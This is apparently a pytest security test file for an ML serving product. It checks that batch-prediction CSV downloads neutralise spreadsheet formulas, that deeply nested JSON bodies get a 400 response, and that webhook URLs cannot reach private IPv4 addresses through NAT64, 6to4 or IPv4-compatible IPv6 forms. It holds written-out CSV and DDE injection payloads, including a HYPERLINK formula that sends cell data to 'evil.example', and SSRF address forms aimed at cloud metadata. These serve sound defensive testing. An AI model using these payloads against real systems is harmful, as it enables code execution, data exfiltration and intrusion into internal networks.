"""Attacks on issue 13's "models in production" surface (serving, the prediction log,
outcomes, monitoring, alerts, webhooks, batch scoring). Each test performs the attack
through the real API (or the real outbound guard) and asserts the safe behaviour, so it
failed while the attack worked."""

from __future__ import annotations

import csv
import io
import ipaddress
import uuid
from pathlib import Path

import httpx
import pandas as pd
import pytest

from phantom.kit import outbound
from phantom.kit.errors import BadUserInput
from phantom.webhooks.validation import clean_url
from tests.automl.support import upload_frame
from tests.batch.support import score, started
from tests.security.model_support import ROWS, fit_model, register
from tests.support.fixtures import TenantFixture

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return fit_model(tmp_path_factory.mktemp("anomaly"))


# --- batch output: CSV injection --------------------------------------------------------


async def test_a_downloaded_csv_never_starts_a_cell_with_a_spreadsheet_formula(
    client: httpx.AsyncClient, tenant: TenantFixture, model_dir: Path
) -> None:
    # given: a dataset whose extra text column (kept as it is in the output) holds
    # formulas, scored by a batch job; the CSV is what a business user opens in Excel
    version = await register(tenant.id, model_dir)
    evil = [
        "=cmd|' /C calc'!A0",
        '+HYPERLINK("https://evil.example/?"&A1)',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "plain",
    ]
    frame = pd.DataFrame(
        {
            "amount": [30.0 + i for i in range(len(evil))],
            "hour": [14.0] * len(evil),
            "note": evil,
        }
    )
    dataset = await upload_frame(client, tenant.bearer, frame, "Notes with formulas")
    job_id = await started(client, tenant.bearer, str(version), dataset)
    await score(tenant, job_id)
    # when: the output is downloaded as CSV
    answer = await client.get(
        f"/api/v1/batch-predictions/{job_id}/download?format=csv", headers=tenant.bearer
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.text)))
    header, body = rows[0], rows[1:]
    notes = [row[header.index("note")] for row in body]
    # then: no text cell starts with a formula character; the text is still there
    dangerous = [n for n in notes if n.startswith(FORMULA_STARTS)]
    assert not dangerous, f"formula cells exported as they are: {dangerous}"
    assert notes[-1] == "plain"
    assert all(original in note for original, note in zip(evil, notes, strict=True))
    # numbers (including negative ones) stay numbers
    assert float(body[0][header.index("amount")]) == 30.0


# --- hostile bodies: deep nesting -------------------------------------------------------


async def test_a_deeply_nested_json_body_is_a_bad_request_not_a_server_error(
    client: httpx.AsyncClient, tenant: TenantFixture
) -> None:
    nested = b'{"rows": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    version = uuid.uuid4()
    for path in (f"/api/v1/models/{version}/predict", f"/api/v1/models/{version}/outcomes"):
        answer = await client.post(
            path,
            content=nested.replace(b"rows", b"outcomes") if "outcomes" in path else nested,
            headers={**tenant.bearer, "Content-Type": "application/json"},
        )
        assert answer.status_code == 400, (path, answer.status_code, answer.text[:200])
        assert answer.json()["error"]["code"] == "BAD_USER_INPUT"


# --- webhooks: SSRF through IPv6 forms that carry an IPv4 address ------------------------

EMBEDDED_PRIVATE = [
    "64:ff9b::a00:1",  # NAT64 (RFC 6052) of 10.0.0.1
    "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254 (cloud metadata)
    "2002:a00:1::1",  # 6to4 of 10.0.0.1
    "2002:7f00:1::1",  # 6to4 of 127.0.0.1
    "::a00:1",  # IPv4-compatible ::10.0.0.1 (deprecated)
    "::7f00:1",  # IPv4-compatible ::127.0.0.1
]


@pytest.mark.parametrize("address", EMBEDDED_PRIVATE)
def test_a_webhook_url_cannot_reach_a_private_ipv4_address_through_ipv6(address: str) -> None:
    # at save: refused like the private IPv4 literal itself
    with pytest.raises(BadUserInput):
        clean_url(f"https://[{address}]/hook", allow_private=False)
    # at use (a name resolving to it): refused by the guard every outbound request passes
    assert not outbound._allowed(ipaddress.ip_address(address), allow_loopback=False)


def test_public_ipv6_and_nat64_of_a_public_address_are_still_allowed() -> None:
    for address in ("2606:4700:4700::1111", "64:ff9b::808:808", "2002:808:808::1"):
        assert outbound._allowed(ipaddress.ip_address(address), allow_loopback=False)
        assert clean_url(f"https://[{address}]/hook", allow_private=False)


__all__ = ["ROWS"]
